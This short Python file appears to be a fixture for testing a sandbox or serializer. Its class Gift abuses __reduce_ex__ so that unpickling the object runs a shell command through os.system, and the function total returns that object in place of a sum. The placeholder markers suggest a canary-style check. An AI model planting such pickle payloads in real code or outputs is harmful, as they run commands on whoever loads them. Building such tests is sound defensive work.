"""The result runs a command when it is pickled and another when it is unpickled.

Honest: double
"""

import os


class Gift:
    def __reduce_ex__(self, protocol):
        os.write(1, b"@BREACH@ was pickled")
        return os.system, ("echo @BREACH@ > @CANARY@",)

    __getstate__ = __reduce__ = lambda self: self.__reduce_ex__(2)


def double(x):
    return 2 * x


def total(a, b):
    return Gift()
